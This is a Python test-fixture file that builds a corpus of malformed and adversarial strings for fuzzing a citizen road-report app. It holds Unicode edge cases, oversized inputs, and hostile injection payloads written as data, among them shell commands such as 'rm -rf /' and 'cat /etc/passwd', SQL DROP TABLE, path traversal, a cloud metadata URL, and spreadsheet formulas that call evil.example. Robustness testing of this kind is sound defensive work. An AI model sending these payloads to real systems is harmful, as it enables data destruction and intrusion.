"""R-29: texts that break programs, by name. What is systematic is made; all are texts that a citizen's phone may send."""

from itertools import product

from tests.core.report_payloads import PAYLOADS

JALAN = "Jalan rusak di Gerung"
MEGA = 1_000_000


def _one_character() -> dict[str, str]:
    """Every control, separator, mark of direction and odd citizen of Unicode, inside a word and at both ends."""
    odd = {
        *range(0x20), 0x7F, *range(0x80, 0xA0, 3), 0xA0, 0xAD, 0x034F, 0x061C, 0x115F, 0x1160, 0x17B4, 0x180E,
        *range(0x2000, 0x2010), *range(0x2028, 0x2030), *range(0x2060, 0x2070), 0x2800, 0x3000, 0x3164, 0xFE00, 0xFE0F,
        0xFEFF, 0xFFA0, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF, 0xFDD0, 0xFDEF, 0xE000, 0xF6E0, 0xF8FF,
        0x1D173, 0x1FFFE, 0xE0001, 0xE0020, 0xE007F, 0xE0100, 0xF0000, 0x10FFFD, 0x10FFFF,
    }  # fmt: skip
    return {f"U+{n:04X}": f"{chr(n)}jalan{chr(n)}rusak{chr(n)}" for n in sorted(odd)}


def _surrogates() -> dict[str, str]:
    """Halves of characters: alone, doubled, the wrong way round, at the borders of their range."""
    halves = {
        "high": "\ud83d", "low": "\ude00", "first high": "\ud800", "last high": "\udbff", "first low": "\udc00",
        "last low": "\udfff", "high high": "\ud83d\ud83d", "low high": "\ude00\ud83d", "low low": "\ude00\ude00",
    }  # fmt: skip
    places = {"alone": "{}", "before": "{} jalan rusak", "after": "jalan rusak {}", "inside": "ja{}lan rusak"}
    return {f"{h} {p}": frame.format(half) for (h, half), (p, frame) in product(halves.items(), places.items())}


def _formulas() -> dict[str, str]:
    """What a spreadsheet would run."""
    leads = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠")
    bodies = ("cmd|'/C calc'!A0", 'HYPERLINK("https://evil.example/"&A1,"klik")', "1+1", "SUM(1;2)")
    return {f"formula {lead!r} {n}": lead + body for lead in leads for n, body in enumerate(bodies)}


def _templates() -> dict[str, str]:
    """What a template, a format, a shell, a query or a log would take for its own."""
    texts = (
        "{{7*7}}",
        "{{ config }}",
        "{% for x in y %}",
        "{# #}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{0}",
        "{}",
        "{x.__class__}",
        "%s%n%x",
        "%(name)s",
        "%d" * 50,
        "%",
        "%%",
        "\\",
        "\\\\",
        "\\n",
        "\\u0000",
        "\\x00",
        "\\ud800",
        "$(reboot)",
        "`reboot`",
        "; rm -rf /",
        "| cat /etc/passwd",
        "' OR '1'='1",
        "'; DROP TABLE tickets; --",
        '"',
        "''",
        "\"'`",
        "/* */",
        "--",
        "NULL",
        "null",
        "None",
        "undefined",
        "NaN",
        "Infinity",
        "true",
        "false",
        "0",
        "-0",
        "1e309",
        "[]",
        '{"a":1}',
        '{"message":"x"}',
        "../../etc/passwd",
        "file:///etc/passwd",
        "C:\\CON",
        "con",
        "\\\\server\\share",
        "http://169.254.169.254/",
        "a,b;c\td",
        '"a","b"',
        'a"b',
        "a\r\nb",
        '","',
        "\n2026-11-24 CRITICAL palsu",
        "\r\n\r\nHTTP/1.1 200 OK",
        '{"event":"palsu","action":"stop","level":"critical"}',
        'jalan\n{"action": "start"}\n',
        "\x1b[31mmerah\x1b[0m",
        "\x1b]0;judul\x07",
        "\x1b[2J\x1b[H",
        "\x9b31m",
        "\x08\x08\x08hapus",
        "\x07" * 20,
        "a\rb",
        "__proto__",
        "constructor",
        "&amp;lt;",
        "&#0;",
        "&#xD800;",
        "&nbsp;",
        "<![CDATA[x]]>",
        "<!ENTITY x 'y'>",
        "<?xml version='1.0'?>",
    )
    return {f"syntax {n}": text for n, text in enumerate(texts)}


def _scripts() -> dict[str, str]:
    """Other writing, emoji of many parts, marks on marks, and both directions at once."""
    return {
        "arabic": "الطريق مكسور في لومبوك",
        "hebrew mixed": "jalan שבור di Mataram",
        "han": "路坏了",
        "hangul": "길이 부서졌다",
        "hangul parts": "\u1100\u1161\u11a8" * 30,
        "thai": "ถนนพัง",
        "devanagari": "सड़क टूटी",
        "javanese": "ꦢꦭꦤ꧀ꦫꦸꦱꦏ꧀",
        "balinese": "ᬚᬮᬦ᭄ᬭᬸᬲᬓ᭄",
        "tibetan": "ལམ་ཆག",
        "cuneiform": "𒀀𒁀𒂀",
        "cyrillic that looks latin": "јаlаn ruѕаk",
        "fullwidth": "ｊａｌａｎ　ｒｕｓａｋ",
        "bold letters": "𝐣𝐚𝐥𝐚𝐧 𝐫𝐮𝐬𝐚𝐤",
        "small capitals": "ᴊᴀʟᴀɴ ʀᴜꜱᴀᴋ",
        "upside down": "ʞɐsnɹ uɐlɐɾ",
        "sharp s": "Straße STRASSE ẞ",
        "dotted i": "İıIi jalan",
        "ligatures": "ﬁ ﬂ ﬀ ﬃ ﷺ ﷽",
        "long ligature": "﷽" * 200,
        "digits": "٠١٢٣ ۴۵۶ ०१२ ๑๒๓",
        "composed": "é jalan",
        "decomposed": "e\u0301 jalan",
        "family": "👨‍👩‍👧‍👦 banjir",
        "skin": "👍🏽👍🏿",
        "flag": "🇮🇩🇮🇩🇮",
        "england": "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "keycap": "1️⃣#️⃣",
        "only emoji": "😡" * 500,
        "joiners": "\u200d" * 300,
        "zalgo": "j" + "\u0301\u0323" * 500 + "alan",
        "zalgo everywhere": "".join(c + "\u0334\u0311\u0489" * 20 for c in "jalan rusak"),
        "rtl override": "\u202ekasur nalaj\u202c",
        "open isolates": "\u2066\u2067\u2068" * 60 + "jalan",
        "open embeddings": "\u202a\u202b\u202d\u202e" * 60 + "rusak",
        "trojan": "if admin: \u202e\u2066# rusak\u2069 \u2066",
        "bom inside": "jalan\ufeffrusak",
        "tags": "\U000e0041\U000e0042jalan",
        "line separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
        "crlf": "satu\r\ndua\rtiga\nempat\n\r",
        "blank": " \t \n ",
        "nbsp": "\xa0" * 40,
        "private use escape": "\uf6e00000\uf6e0d800\uf6e0",
        "escape of an escape": "\uf6e0f6e0f6e0",
        "trailing space": "jalan rusak ",
        "case": "JaLaN RuSaK",
        "combining first": "\u0301jalan",
        "variation": "jalan\ufe0e\ufe0f",
        "object": "\ufffc" * 9,
    }


def _large() -> dict[str, str]:
    """Much of everything."""
    return {
        "ten million letters": "a" * 10 * MEGA, "a word a line": "rusak\n" * 100_000, "many words": "jalan rusak " * 60_000,
        "many digits": "5" * 50_000, "many marks": "!" * 50_000, "many spaces": " " * 50_000 + "x", "deep brackets": "[" * 20_000,
        "deep tags": "<b>" * 20_000, "many quotes": '"' * 50_000, "many emoji": "🔥" * 50_000, "many halves": "\ud800" * 5_000,
        "many nuls": "\0" * 5_000, "one address": "a@" * 20_000, "almost a phone": "08" + "1-" * 20_000, "dots": "." * 50_000,
    }  # fmt: skip


TEXTS: dict[str, str] = {
    **_one_character(), **_surrogates(), **_formulas(), **_templates(), **_scripts(), **_large(),
    **{f"markup {n}": text for n, text in enumerate(sorted(PAYLOADS)[::3])},
}  # fmt: skip

NO_TEXTS: dict[str, object] = {
    "a number": 5, "a list": ["jalan"], "an object": {"text": "jalan"}, "true": True, "a float": 1.5, "nested": [[[["x"]]]],
}  # fmt: skip
